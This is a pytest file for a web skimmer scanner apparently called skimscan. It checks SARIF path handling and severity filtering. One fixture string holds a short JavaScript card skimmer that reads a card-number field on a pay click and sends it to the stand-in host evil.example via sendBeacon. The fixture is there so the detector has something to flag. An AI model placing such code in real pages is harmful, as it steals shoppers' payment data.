"""SARIF for GitHub code scanning: file locations are paths relative to the repository (the
working directory, or `--root`) with the `%SRCROOT%` base that `originalUriBaseIds` defines,
never `file:///…` URIs of the machine that ran the scan — whether the files were named with
absolute paths, through a `<script src>`, or relative to another working directory — and
informational findings stay out unless `--min-severity info` asks for them."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from skimscan.cli import main
from tests.test_report_sarif import validate_sarif

SKIMMER = ("document.getElementById('pay').addEventListener('click', function () {\n"
           "  var n = document.getElementById('cc_number').value;\n"
           "  navigator.sendBeacon('https://evil.example/c', n);\n});\n")
#: Only an informational finding: a card field is read (card-field-read, severity info).
READS_CARD = "var n = document.getElementById('cc_number').value;\nconsole.log(n.length);\n"


def sarif(args: list[str], capsys: pytest.CaptureFixture[str]) -> dict[str, Any]:
    main(["scan-file", "--no-cache", "-j", "1", "--detonate", "never", "-f", "sarif",
          *args])
    log: dict[str, Any] = json.loads(capsys.readouterr().out)
    validate_sarif(log)
    return log


def locations(log: dict[str, Any]) -> list[dict[str, str]]:
    return [r["locations"][0]["physicalLocation"]["artifactLocation"]
            for r in log["runs"][0]["results"]]


@pytest.fixture()
def repo(tmp_path: Path) -> Path:
    root = tmp_path / "repo"
    (root / "build" / "js").mkdir(parents=True)
    (root / "build" / "js" / "pay.js").write_text(SKIMMER)
    (root / "build" / "checkout.html").write_text(
        '<html><body><script src="js/pay.js"></script></body></html>')
    return root


def test_absolute_paths_under_the_working_directory_are_repository_relative(
        repo: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    monkeypatch.chdir(repo)
    log = sarif([str(repo / "build")], capsys)
    found = locations(log)
    assert found and all(loc == {"uri": "build/js/pay.js", "uriBaseId": "%SRCROOT%"}
                         for loc in found), found
    assert log["runs"][0]["originalUriBaseIds"] == {
        "%SRCROOT%": {"uri": f"file://{repo.resolve()}/"}}
    assert "file://" not in json.dumps(log["runs"][0]["results"])


def test_root_makes_paths_relative_to_it_from_another_working_directory(
        repo: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    monkeypatch.chdir(repo.parent)
    log = sarif(["--root", "repo", "repo/build/js"], capsys)
    found = locations(log)
    assert found and all(loc == {"uri": "build/js/pay.js", "uriBaseId": "%SRCROOT%"}
                         for loc in found), found
    assert log["runs"][0]["originalUriBaseIds"]["%SRCROOT%"]["uri"] == \
        f"file://{repo.resolve()}/"


def test_a_file_outside_the_root_stays_absolute_without_a_base(
        repo: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
        capsys: pytest.CaptureFixture[str]) -> None:
    (tmp_path / "elsewhere").mkdir()
    (tmp_path / "elsewhere" / "x.js").write_text(SKIMMER)
    monkeypatch.chdir(repo)
    [location] = {json.dumps(loc) for loc in locations(
        sarif([str(tmp_path / "elsewhere" / "x.js")], capsys))}
    assert json.loads(location) == {"uri": f"file://{tmp_path / 'elsewhere' / 'x.js'}"}


def test_informational_findings_only_when_asked_for(
        repo: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    (repo / "reads.js").write_text(READS_CARD)
    monkeypatch.chdir(repo)

    def rules(log: dict[str, Any]) -> set[str]:
        return {r["ruleId"] for r in log["runs"][0]["results"]}

    default = rules(sarif(["reads.js", "build/js/pay.js"], capsys))
    assert "card-field-read" not in default and "card-data-to-untrusted-host" in default
    assert "card-field-read" not in rules(sarif(["--min-severity", "low", "reads.js"], capsys))
    assert "card-field-read" in rules(sarif(["--min-severity", "info", "reads.js"], capsys))
    monkeypatch.setenv("SKIMSCAN_MIN_SEVERITY", "info")
    assert "card-field-read" in rules(sarif(["reads.js"], capsys))
